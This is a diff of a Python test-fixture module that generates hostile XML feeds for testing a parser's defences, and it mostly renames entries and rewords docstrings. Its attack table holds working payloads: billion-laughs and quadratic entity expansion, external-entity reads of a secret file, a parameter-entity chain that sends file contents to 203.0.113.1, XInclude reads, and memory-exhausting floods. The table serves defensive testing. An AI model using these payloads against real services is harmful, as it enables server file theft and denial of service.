@@ -1,4 +1,4 @@
-"""Documents that attack an XML reader, each in the shape of a feed that could have been read."""
+"""Documents that attack XML readers, each embedded in a feed that is valid without the attack."""
 
 import gzip
 from collections.abc import Callable
@@ -6,9 +6,9 @@ from string import Template
 from typing import Final
 
 SECRET: Final = "the-word-that-must-not-get-out"  # noqa: S105
-"""What the file says that attacks try to read."""
+"""Content of the file that attacks try to read."""
 
-HOSTS: Final = {
+TEMPLATES: Final = {
     "rss": Template(
         '$prolog<rss version="2.0" $attributes><channel><title>T</title><link>https://post.example.com/</link>'
         "<description>D</description><item><guid>a</guid><title>$text</title>$inside</item></channel></rss>"
@@ -23,37 +23,44 @@ HOSTS: Final = {
         "<headline>$text</headline>$inside</contentMeta></newsItem></itemSet></newsMessage>"
     ),
 }
-"""What a document looks like, by the name of its reader."""
+"""Feed templates by format name."""
 
 
 class Host:
-    """The format that an attack is written in.
+    """Builder of a feed with an attack in it.
 
     Args:
-        name: of the format.
-        secret: address of a file that the attack may try to read.
+        name: the name of the format.
+        secret: URL of the file that attacks try to read.
     """
 
     def __init__(self, name: str, secret: str) -> None:
-        self._template = HOSTS[name]
+        self._template = TEMPLATES[name]
         self.secret = secret
 
     def __call__(self, *, prolog: str = "", attributes: str = "", text: str = "t", inside: str = "") -> bytes:
-        """Give the document with the attack in these places."""
+        """Return the document.
+
+        Args:
+            prolog: markup before the root element.
+            attributes: attributes of the root element.
+            text: content of the title or headline, as markup.
+            inside: markup inside the item.
+        """
         return self._template.substitute(prolog=prolog, attributes=attributes, text=text, inside=inside).encode()
 
     def dtd(self, subset: str, text: str = "&x;", inside: str = "") -> bytes:
-        """Give the document with an internal subset of a document type."""
+        """Return the document with an internal DTD subset."""
         return self(prolog=f'<?xml version="1.0"?><!DOCTYPE x [{subset}]>', text=text, inside=inside)
 
 
-def _laughs(host: Host) -> bytes:
+def _billion_laughs(host: Host) -> bytes:
     levels = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
     return host.dtd(f'<!ENTITY l0 "ha">{levels}', "&l9;")
 
 
-def _within(opening: str, closing: str, times: int) -> Callable[[Host], bytes]:
-    return lambda host: host(inside=opening * times + closing * times)
+def _nested(opening: str, closing: str, depth: int) -> Callable[[Host], bytes]:
+    return lambda host: host(inside=opening * depth + closing * depth)
 
 
 def _inside(markup: str) -> Callable[[Host], bytes]:
@@ -62,38 +69,38 @@ def _inside(markup: str) -> Callable[[Host], bytes]:
 
 ATTACKS: Final[dict[str, Callable[[Host], bytes]]] = {
     # entities
-    "billion laughs": _laughs,
+    "billion laughs": _billion_laughs,
     "quadratic blowup": lambda host: host.dtd(f'<!ENTITY x "{"A" * 50_000}">', "&x;" * 50_000),
     "small entity": lambda host: host.dtd(f'<!ENTITY x "{"A" * 300}">', "&x;" * 100),
-    "entity of itself": lambda host: host.dtd('<!ENTITY x "&y;"><!ENTITY y "&x;">'),
-    "entity of a file": lambda host: host.dtd(f'<!ENTITY x SYSTEM "{host.secret}">'),
-    "entity of the network": lambda host: host.dtd('<!ENTITY x SYSTEM "http://203.0.113.1/x">'),
+    "circular entities": lambda host: host.dtd('<!ENTITY x "&y;"><!ENTITY y "&x;">'),
+    "external entity, file": lambda host: host.dtd(f'<!ENTITY x SYSTEM "{host.secret}">'),
+    "external entity, network": lambda host: host.dtd('<!ENTITY x SYSTEM "http://203.0.113.1/x">'),
     "public entity": lambda host: host.dtd(f'<!ENTITY x PUBLIC "-//X//Y//EN" "{host.secret}">'),
     "entity in an attribute": lambda host: host.dtd(f'<!ENTITY x SYSTEM "{host.secret}">', "t", '<link href="&x;"/>'),
     "parameter entity": lambda host: host.dtd(f'<!ENTITY % p SYSTEM "{host.secret}">%p;', "t"),
-    "parameter entities in a row": lambda host: host.dtd(
+    "nested parameter entities": lambda host: host.dtd(
         f'<!ENTITY % f SYSTEM "{host.secret}"><!ENTITY % e "<!ENTITY x SYSTEM \'http://203.0.113.1/%f;\'>">%e;'
     ),
-    "external document type": lambda host: host(prolog=f'<!DOCTYPE x SYSTEM "{host.secret}">', text="&x;"),
-    "document type of the network": lambda host: host(prolog='<!DOCTYPE x SYSTEM "http://203.0.113.1/x.dtd">'),
-    "pretended legacy document type": lambda host: host(
+    "external DTD, file": lambda host: host(prolog=f'<!DOCTYPE x SYSTEM "{host.secret}">', text="&x;"),
+    "external DTD, network": lambda host: host(prolog='<!DOCTYPE x SYSTEM "http://203.0.113.1/x.dtd">'),
+    "file disguised as a legacy DTD": lambda host: host(
         prolog=f'<!DOCTYPE rss PUBLIC "-//Netscape//DTD RSS 0.91//EN" "{host.secret}?netscape.com/rss-0.91.dtd">',
         text="&x;",
     ),
-    "legacy document type with a subset": lambda host: host(
+    "legacy DTD with an internal subset": lambda host: host(
         prolog='<!DOCTYPE rss PUBLIC "-//Netscape//DTD RSS 0.91//EN" "http://my.netscape.com/publish/formats/rss-0.91.dtd" '
         f'[<!ENTITY x SYSTEM "{host.secret}">]>',
         text="&x;",
     ),
     "default attributes": lambda host: host.dtd(f'<!ATTLIST title a CDATA "{"A" * 9999}">', "t", "<title/>" * 999),
-    "document type behind comments": lambda host: host(
+    "DTD after comments": lambda host: host(
         prolog=f'<!-- a --><?b c?><!-- > --> <!DOCTYPE x [<!ENTITY x SYSTEM "{host.secret}">]>', text="&x;"
     ),
-    "endless document type": lambda _host: b"<!DOCTYPE x [" + b'<!ENTITY a "b">' * 100_000,
+    "unterminated DTD": lambda _host: b"<!DOCTYPE x [" + b'<!ENTITY a "b">' * 100_000,
     "unknown entities": lambda host: host(text="&nothing;" * 20_000),
-    "references without an end": lambda host: host(text="&" * 300_000),
-    "characters that are none": lambda host: host(text="&#0;&#xD800;&#xFFFFFFFF;" * 20_000),
-    # other things that load
+    "unterminated references": lambda host: host(text="&" * 300_000),
+    "illegal character references": lambda host: host(text="&#0;&#xD800;&#xFFFFFFFF;" * 20_000),
+    # other features that load resources
     "XInclude": lambda host: host(
         inside=f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{host.secret}" parse="text"/>'
     ),
@@ -103,39 +110,39 @@ ATTACKS: Final[dict[str, Callable[[Host], bytes]]] = {
     ),
     # encodings
     "UTF-7": lambda host: b'<?xml version="1.0" encoding="UTF-7"?>' + host(text="+ADw-script+AD4-"),
-    "encoding that is none": lambda host: b'<?xml version="1.0" encoding="rot13"?>' + host(),
+    "unknown encoding": lambda host: b'<?xml version="1.0" encoding="rot13"?>' + host(),
     "gzip": lambda host: gzip.compress(host(text="A" * 1_000_000), mtime=0),
-    "UTF-16 without a mark": lambda host: host().decode().encode("utf-16-le"),
+    "UTF-16 without a byte order mark": lambda host: host().decode().encode("utf-16-le"),
     "UTF-32": lambda host: host().decode().encode("utf-32"),
     "NULs": lambda host: host(text="\0" * 100_000),
-    "half of a character": lambda host: host(text="t").replace(b">t<", b">\xf0\x9f\x98<"),
+    "truncated UTF-8 sequence": lambda host: host(text="t").replace(b">t<", b">\xf0\x9f\x98<"),
     "overlong UTF-8": lambda host: host(text="t").replace(b">t<", b">\xc0\xbcscript\xc0\xbe<"),
     # floods
     "attributes": lambda host: host(inside="<x " + " ".join(f'a{n}="1"' for n in range(100_000)) + "/>"),
     "namespaces": lambda host: host(attributes=" ".join(f'xmlns:n{n}="urn:{n}"' for n in range(50_000))),
-    "namespaces in depth": lambda host: host(
+    "nested namespaces": lambda host: host(
         inside="".join(f'<n{n}:a xmlns:n{n}="urn:{n}">' for n in range(150))
         + "".join(f"</n{n}:a>" for n in reversed(range(150)))
     ),
     "undeclared prefixes": lambda host: host(inside="".join(f"<p{n}:a/>" for n in range(50_000))),
     "empty elements": _inside("<x/>" * 100_000),
-    "depth": _within("<x>", "</x>", 10_000),
-    "depth of one vocabulary": _within("<div>", "</div>", 190),
+    "depth": _nested("<x>", "</x>", 10_000),
+    "depth within the limit": _nested("<div>", "</div>", 190),
     "text": _inside(f"<x>{'A' * 12_000_000}</x>"),
     "attribute value": _inside(f'<x a="{"A" * 12_000_000}"/>'),
     "comments": _inside("<!---->" * 300_000),
-    "comment without an end": _inside("<!--" * 100_000),
+    "unterminated comments": _inside("<!--" * 100_000),
     "processing instructions": _inside("<?a b?>" * 300_000),
     "CDATA": _inside("<![CDATA[a]]>" * 300_000),
-    "CDATA without an end": _inside("<![CDATA[" * 100_000),
+    "unterminated CDATA": _inside("<![CDATA[" * 100_000),
     "element name": _inside(f"<{'n' * 1_000_000}/>"),
     "attribute name": _inside(f'<x {"n" * 1_000_000}="1"/>'),
-    "elements without an end": _inside("<a " * 20_000),
+    "unterminated tags": _inside("<a " * 20_000),
     "end tags": _inside("</a>" * 300_000),
-    "white space before the document": lambda host: b" \n" * 200_000 + b"<?xml version='1.0'?>" + host(),
-    "signs only": lambda _host: b"<" * 1_000_000,
+    "whitespace before the document": lambda host: b" \n" * 200_000 + b"<?xml version='1.0'?>" + host(),
+    "less-than signs only": lambda _host: b"<" * 1_000_000,
     "quotation marks": _inside("<x a='" * 20_000),
-    "same attribute twice": _inside('<x a="1" a="2"/>'),
+    "duplicate attribute": _inside('<x a="1" a="2"/>'),
     "items": lambda host: host().replace(b"</channel>", b"<item/>" * 5_000 + b"</channel>"),
 }
-"""What makes each attack, by a name."""
+"""Functions that build the document of each attack, by name of the attack."""
